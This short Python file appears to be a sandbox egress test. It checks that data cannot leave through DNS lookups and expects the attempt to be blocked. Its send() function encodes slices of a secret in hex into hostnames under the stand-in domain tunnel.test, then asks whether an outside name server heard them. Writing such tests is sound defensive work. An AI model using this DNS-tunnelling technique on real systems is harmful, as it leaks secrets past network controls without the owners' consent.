# tries: send data out in the names of questions
# control: blocked because the world only hears of names that are connected to
# blocked: not-asked
def send():
    for part in range(5):
        resolved(f"data{part}-{secret()[:20].hex()}.tunnel.test")
    heard = by_proxy("http://allowed.test/asked")
    # To fetch that page, this name was looked up: who does not find it would find nothing.
    if b"allowed.test" not in heard:
        raise ValueError(f"the name server outside does not say what it heard: {heard[:200]}")
    if b"tunnel.test" in heard:
        return "the questions were heard outside"
    raise Blocked("not-asked")


attempt(send)
